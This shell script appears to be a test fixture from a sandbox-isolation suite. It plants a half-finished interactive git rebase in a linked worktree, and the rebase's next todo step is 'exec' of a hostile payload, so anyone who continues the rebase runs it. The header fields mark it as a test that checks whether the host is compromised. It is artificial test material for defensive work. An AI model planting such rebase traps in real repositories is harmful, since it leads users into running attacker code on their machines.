#!/bin/sh
# Leaves a rebase of the work tree half done, whose next step is a command.
# Matters: whoever continues it runs it.
# Held by: states of unfinished commands are the sandbox's own.
# judge: host
# harm: owned
# prepare: sh "$HOSTILE_PROGRAMS/common/linked.sh"
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
common=$HOSTILE_STAGE/repository/.git
own=$common/worktrees/workspace
mkdir -p "$own/rebase-merge"
git rev-parse HEAD | tee "$own/rebase-merge/onto" >"$own/rebase-merge/orig-head"
cd "$own/rebase-merge" || exit
echo refs/heads/linked >head-name
printf 'exec %s\n' "$payload" >git-rebase-todo
: >done
echo 0 >msgnum
echo 1 >end
: >interactive
